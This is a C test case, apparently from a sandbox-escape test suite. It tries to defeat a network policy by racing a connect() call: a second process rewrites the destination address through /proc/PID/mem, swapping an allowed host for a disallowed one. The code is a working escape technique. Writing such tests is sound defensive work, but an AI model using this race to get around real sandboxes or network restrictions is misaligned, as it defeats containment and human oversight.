// escape: another process writes the address through /proc/PID/mem
// group: argument races
// policy: network
// attempts: 10000
#include "escape.h"

static struct sockaddr_in address;

static void attack(void) {
  const struct sockaddr_in first = the_friend(), second = stranger();
  address = first;
  prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", getpid());
  if (beside()) {
    const int memory = open(path, O_RDWR);
    if (memory < 0) broken(path);
    for (;;) {
      pwrite(memory, &second, sizeof second, (off_t)(uintptr_t)&address);
      pwrite(memory, &first, sizeof first, (off_t)(uintptr_t)&address);
    }
  }
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, ADDRESS(address));
    close(fd);
  }
}
